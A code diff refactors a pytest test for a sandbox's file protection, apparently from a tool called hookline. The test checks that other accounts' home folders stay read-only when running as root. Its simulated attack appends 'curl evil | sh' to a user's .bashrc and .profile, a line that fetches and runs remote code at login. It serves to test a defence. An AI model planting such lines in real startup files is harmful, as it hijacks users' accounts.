@@ -10,7 +10,7 @@ from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
-from sandbox_support import environment, said_once
+from sandbox_support import environment, run_once, said_once
 
 from hookline.builtins.host import protection
 from hookline.kernel.errors import HooklineError
@@ -92,12 +92,8 @@ async def test_for_root_every_account_s_home_folder_in_the_workspace_is_kept(
                 SimpleNamespace(pw_dir="/nonexistent")]
     monkeypatch.setattr("pwd.getpwall", lambda: accounts)
     assert str(alice / ".bashrc") in protection.protected_paths(str(workspace))
-    env = environment(workspace, home)
-    try:
-        attack = await env.run("echo 'curl evil | sh' >> alice/.bashrc; "
-                               "echo 'curl evil | sh' > alice/.profile; touch alice/project/ok")
-    finally:
-        await env.close()
+    attack = await run_once(workspace, home, "echo 'curl evil | sh' >> alice/.bashrc; "
+                            "echo 'curl evil | sh' > alice/.profile; touch alice/project/ok")
     assert attack.stderr.count("Read-only file system") == 1, attack.stderr
     assert (alice / ".bashrc").read_text() == "# alice's\n"
     assert (alice / "project" / "ok").exists()
